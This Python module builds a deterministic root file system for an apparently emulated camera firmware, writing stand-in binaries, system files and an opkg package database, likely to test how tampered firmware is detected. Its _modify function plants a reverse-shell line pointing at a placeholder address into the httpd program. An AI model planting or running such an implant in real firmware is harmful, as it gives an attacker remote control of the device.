"""The root file system of the emulated firmware, built from ``rootfs.toml``.

The same version and posture give the same bytes, modification times included, so that a bundle,
a slot, a package database and a software bill of materials made from one build agree.
"""

from __future__ import annotations

import hashlib
import os
import struct
import tomllib
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from pathlib import Path
from typing import Any

from devices.emulated.maker.os_accounts import write_accounts, write_start_scripts
from devices.emulated.maker.shared_keys import KEY_FILE, key_file
from devices.emulated.posture import Posture
from devices.emulated.unit import HARDWARE, MANUFACTURER, MODEL

PACKAGE_DATABASE = "usr/lib/opkg/status"
RELEASE_TIME = int(datetime(2026, 3, 2, 9, 0, tzinfo=UTC).timestamp())
"""Modification time of every file of a build (seconds since 1970)."""
ARCHITECTURE = "armhf"
_FOLDERS = ("dev", "etc", "mnt/sd", "proc", "root", "sys", "tmp", "usr/lib/opkg/info", "var/log")
_MODIFIED_PROGRAM = "usr/sbin/httpd"


@dataclass(frozen=True)
class Component:
    """One component as it is shipped; ``files`` are paths relative to the root."""

    name: str
    version: str
    supplier: str
    licence: str
    description: str
    files: tuple[str, ...]


def build_rootfs(
    directory: Path, version: str, posture: Posture, *, released: bool = False
) -> Path:
    """Build the root file system of firmware ``version`` in ``directory``, and return it.

    ``released`` is what the maker put into its bundle and its bill of materials. Without it the
    result is what runs on the camera, which differs under ``posture.firmware_modified``.
    """
    for folder in _FOLDERS:
        (directory / folder).mkdir(parents=True, exist_ok=True)
    write_accounts(directory, posture)
    write_start_scripts(directory, posture)
    for entry in _shipped(posture):
        for file in entry["files"]:
            _write(directory / file["path"], _content(entry, file, version, posture))
    for path, text in _system_files(version).items():
        _write(directory / path, text.encode())
    if key := key_file(posture):
        _write(directory / KEY_FILE, key)
    _write_package_database(directory, components(version, posture))
    if posture.firmware_modified and not released:
        _modify(directory / _MODIFIED_PROGRAM)
    _set_times(directory)
    return directory


def components(version: str, posture: Posture) -> tuple[Component, ...]:
    """The components of firmware ``version``, in the order of ``rootfs.toml``."""
    return tuple(
        Component(
            name=entry["name"],
            version=_version_of(entry, version),
            supplier=entry["supplier"],
            licence=entry["licence"],
            description=entry["description"],
            files=tuple(file["path"] for file in entry["files"]),
        )
        for entry in _shipped(posture)
    )


@cache
def _contents() -> dict[str, Any]:
    path = Path(__file__).with_name("rootfs.toml")
    return tomllib.loads(path.read_text(encoding="utf-8"))


def _shipped(posture: Posture) -> list[dict[str, Any]]:
    replaced = {
        each["name"]: each["version"]
        for each in _contents()["replacement"]
        if _holds(each["under"], posture)
    }
    return [
        entry | {"version": replaced.get(entry["name"], entry["version"])}
        for entry in _contents()["component"]
        if "under" not in entry or _holds(entry["under"], posture)
    ]


def _holds(condition: dict[str, Any], posture: Posture) -> bool:
    return bool(getattr(posture, condition["field"]) == condition["value"])


def _version_of(entry: dict[str, Any], firmware: str) -> str:
    return firmware if entry["version"] == "firmware" else str(entry["version"])


def _content(entry: dict[str, Any], file: dict[str, Any], firmware: str, posture: Posture) -> bytes:
    version = _version_of(entry, firmware)
    strings = [f"{entry['name']} {version}", f"Copyright (C) {entry['supplier']}"]
    if posture.foreign_brand:
        strings += [
            text
            for brand in _contents()["brand_string"]
            if brand["path"] == file["path"]
            for text in brand["text"]
        ]
    if "size" in file:
        return _program(file["path"], strings, file["size"] * 1024)
    return _web_file(file["path"], strings)


def _program(path: str, strings: list[str], size: int) -> bytes:
    """An ELF header (32-bit little-endian ARM), the strings, and bytes that follow from both."""
    header = b"\x7fELF" + bytes((1, 1, 1)) + bytes(9)
    kind = 3 if ".so" in path else 2  # ET_DYN or ET_EXEC
    header += struct.pack(
        "<HHIIIIIHHHHHH", kind, 40, 1, 0x10000, 0, 0, 0x5000400, 52, 32, 0, 40, 0, 0
    )
    table = b"".join(text.encode() + b"\0" for text in (path, *strings))
    code = hashlib.shake_256(table).digest(size - len(header) - len(table))
    return header + table + code


def _web_file(path: str, strings: list[str]) -> bytes:
    if path.endswith(".js"):
        return "".join(f"// {text}\n" for text in strings).encode()
    marks = "\n".join(text if text.startswith("<!--") else f"<!-- {text} -->" for text in strings)
    return (
        f"<!doctype html>\n<title>{MANUFACTURER} {MODEL}</title>\n{marks}\n"
        '<script src="/app.js"></script>\n'
    ).encode()


def _system_files(version: str) -> dict[str, str]:
    """The files that identify the system (os-release(5)) and those a shell expects."""
    return {
        "etc/os-release": (
            f'NAME="{MANUFACTURER} Camera Linux"\nID={MANUFACTURER.lower()}\n'
            f'VERSION="{version}"\nVERSION_ID="{version}"\n'
            f'PRETTY_NAME="{MANUFACTURER} Camera Linux {version}"\n'
            f'BUILD_ID="{version}-{HARDWARE.lower()}"\n'
        ),
        "etc/hostname": f"{MODEL.lower()}\n",
        "etc/hosts": "127.0.0.1 localhost\n",
        "etc/fstab": (
            "/dev/root / squashfs ro 0 0\nproc /proc proc defaults 0 0\n"
            "tmpfs /tmp tmpfs nosuid,nodev,noexec,size=8m 0 0\n"
            "/dev/mmcblk0p4 /var ext4 nosuid,nodev 0 2\n"
        ),
        "etc/shells": "/bin/sh\n",
        "etc/banner": f"{MANUFACTURER} {MODEL} {version}\n",
    }


def _write_package_database(root: Path, shipped: tuple[Component, ...]) -> None:
    """The database as opkg keeps it: control stanzas, and a list of files for each package."""
    stanzas = []
    for component in shipped:
        stanzas.append(
            f"Package: {component.name}\nVersion: {component.version}\n"
            f"Status: install ok installed\nArchitecture: {ARCHITECTURE}\n"
            f"Maintainer: {component.supplier}\nDescription: {component.description}\n"
        )
        listing = "".join(f"/{path}\n" for path in component.files)
        _write(root / f"usr/lib/opkg/info/{component.name}.list", listing.encode())
    _write(root / PACKAGE_DATABASE, "\n".join(stanzas).encode())


def _modify(program: Path) -> None:
    """Plant something in a program without changing its length."""
    implant = b"sh -i >& /dev/tcp/198.51.100.7/4444 0>&1\0"
    data = program.read_bytes()
    program.write_bytes(data[: -len(implant)] + implant)


def _write(path: Path, data: bytes) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    executable = data.startswith((b"\x7fELF", b"#!"))
    path.chmod(0o755 if executable else 0o644)


def _set_times(root: Path) -> None:
    """Deepest first: writing into a folder changes the folder's own time."""
    for path in sorted(root.rglob("*"), reverse=True):
        os.utime(path, (RELEASE_TIME, RELEASE_TIME), follow_symlinks=False)
    os.utime(root, (RELEASE_TIME, RELEASE_TIME))
